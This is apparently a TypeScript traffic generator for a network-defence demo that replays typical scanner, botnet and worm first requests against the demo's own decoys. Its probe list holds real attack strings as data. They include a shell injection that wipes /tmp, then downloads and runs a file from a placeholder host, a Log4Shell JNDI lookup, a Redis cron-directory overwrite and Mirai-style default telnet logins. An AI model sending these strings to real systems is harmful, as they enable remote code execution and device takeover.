// The demo's attackers: what scanners, botnets and worms of the Internet send first, reduced to harmless requests to
// the demo's own decoys. Runs as a program inside the attacker's namespace; every round is bounded. Nothing here exploits
// anything: the strings are what a defender knows from logs.

import { createSocket } from 'node:dgram';
import net from 'node:net';
import tls from 'node:tls';
import { parseArgs } from 'node:util';
import { parseRange, renderAddress } from '../../model/address.ts';

interface Touch {
  readonly port: number;
  readonly payload: string | Buffer;
  readonly tls?: string;
  readonly transport?: 'udp';
  /** Waits for the greeting before it speaks. */
  readonly listens?: boolean;
}

const http = (line: string, headers = 'Host: target\r\nUser-Agent: Mozilla/5.0 zgrab/0.x\r\n', body = ''): string =>
  `${line} HTTP/1.1\r\n${headers}${body ? `Content-Length: ${body.length}\r\n` : ''}\r\n${body}`;

const touches: readonly Touch[] = [
  { port: 80, payload: http('GET /shell?cd+/tmp;rm+-rf+*;wget+http://203.0.113.9/jaws;sh+/tmp/jaws') },
  { port: 8080, payload: http('GET /', `Host: target\r\nUser-Agent: ${'$'}{jndi:ldap://203.0.113.9:1389/a}\r\n`) },
  { port: 8088, payload: http('POST /ws/v1/cluster/apps/new-application') },
  { port: 2375, payload: http('GET /version', 'Host: target\r\nUser-Agent: Go-http-client/1.1\r\n') },
  { port: 443, payload: http('GET /vpn/index.html'), tls: 'vpn.example.net' },
  { port: 8443, payload: http('GET /login'), tls: 'portal.example.net' },
  { port: 6379, payload: '*1\r\n$4\r\nINFO\r\n' },
  { port: 6379, payload: 'CONFIG SET dir /var/spool/cron/\r\n' },
  { port: 22, payload: 'SSH-2.0-Go\r\n', listens: true },
  { port: 23, payload: 'root\r\nvizxv\r\nenable\r\n', listens: true },
  { port: 2323, payload: 'admin\r\nadmin\r\n', listens: true },
  { port: 21, payload: 'USER anonymous\r\nPASS guest@\r\n', listens: true },
  { port: 25, payload: 'EHLO scanner.example\r\n', listens: true },
  { port: 3306, payload: '', listens: true },
  { port: 3389, payload: Buffer.from('030000130ee000000000000100080003000000', 'hex') },
  {
    port: 445,
    payload: Buffer.from(
      '00000045ff534d4272000000001801c80000000000000000000000000000ffff00000000002200024e54204c4d20302e31320002534d4220322e3030320002534d4220322e3f3f3f00',
      'hex',
    ),
  },
  {
    port: 5555,
    payload: Buffer.from('434e584e000000010010000007000000320200 00bcb1a7b1686f73743a3a00'.replace(/ /g, ''), 'hex'),
  },
  { port: 502, payload: Buffer.from('000100000005012b0e0100', 'hex') },
  { port: 102, payload: Buffer.from('0300001611e00000000100c0010ac1020100c2020102', 'hex') },
  { port: 1883, payload: Buffer.from('101000044d5154540402003c0004746573 74'.replace(/ /g, ''), 'hex') },
  {
    port: 5060,
    payload: 'OPTIONS sip:100@target SIP/2.0\r\nVia: SIP/2.0/TCP 203.0.113.9\r\nCall-ID: 1\r\nCSeq: 1 OPTIONS\r\n\r\n',
  },
  { port: 53, transport: 'udp', payload: Buffer.from('abcd01000001000000000000076578616d706c6503636f6d0000010001', 'hex') },
  {
    port: 161,
    transport: 'udp',
    payload: Buffer.from('302902010004067075626c6963a01c02040b2fba0f020100020100300e300c06082b060102010101000500', 'hex'),
  },
  { port: 123, transport: 'udp', payload: Buffer.concat([Buffer.from([0x1b]), Buffer.alloc(47)]) },
  {
    port: 1900,
    transport: 'udp',
    payload: 'M-SEARCH * HTTP/1.1\r\nHost:239.255.255.250:1900\r\nST:upnp:rootdevice\r\nMan:"ssdp:discover"\r\nMX:3\r\n\r\n',
  },
];

const perTouchMs = 1500;

/** Resolves when the decoy ended, the bound is over, or the touch failed; never rejects. */
function make(touch: Touch, from: string, to: string): Promise<void> {
  return new Promise((resolve) => {
    if (touch.transport === 'udp') {
      const socket = createSocket(to.includes(':') ? 'udp6' : 'udp4');
      socket.on('error', () => {});
      socket.bind(0, from, () => {
        socket.send(touch.payload, touch.port, to, () => setTimeout(() => socket.close(() => resolve()), 200));
      });
      return;
    }
    const raw = net.connect({ host: to, port: touch.port, localAddress: from });
    const timer = setTimeout(() => raw.destroy(), perTouchMs);
    raw.on('error', () => {});
    raw.on('close', () => {
      clearTimeout(timer);
      resolve();
    });
    const stream = touch.tls ? tls.connect({ socket: raw, servername: touch.tls, rejectUnauthorized: false }) : raw;
    if (touch.tls) stream.on('error', () => {});
    stream.on('data', () => {
      if (touch.listens && !stream.writableEnded) stream.end(touch.payload);
      else setTimeout(() => raw.destroy(), 100).unref();
    });
    stream.on(touch.tls ? 'secureConnect' : 'connect', () => {
      if (!touch.listens) stream.write(touch.payload);
    });
  });
}

if (process.argv[1]?.endsWith('attacks.js')) {
  const { values } = parseArgs({
    options: {
      from: { type: 'string', multiple: true },
      to: { type: 'string' },
      rounds: { type: 'string' },
      'pause-ms': { type: 'string', default: '5' },
    },
  });
  const range = parseRange(values.to ?? '');
  const sources = values.from ?? [];
  if (!range || sources.length === 0) throw new Error('attacks needs --from ADDRESS and --to RANGE');
  const size = range.last - range.first + 1n;
  let seed = 12345n;
  const pause = (ms: number): Promise<void> => new Promise((resolve) => setTimeout(resolve, ms));
  for (let round = 0; round < Number(values.rounds); round += 1) {
    const running: Promise<void>[] = [];
    for (const touch of touches) {
      // A fixed walk: the same decoys in every demo.
      seed = (seed * 6364136223846793005n + 1442695040888963407n) & ((1n << 64n) - 1n);
      const to = renderAddress({ family: range.family, value: range.first + ((seed >> 16n) % size) });
      running.push(make(touch, sources[(round + touch.port) % sources.length], to));
      await pause(Number(values['pause-ms']));
    }
    await Promise.all(running);
  }
}
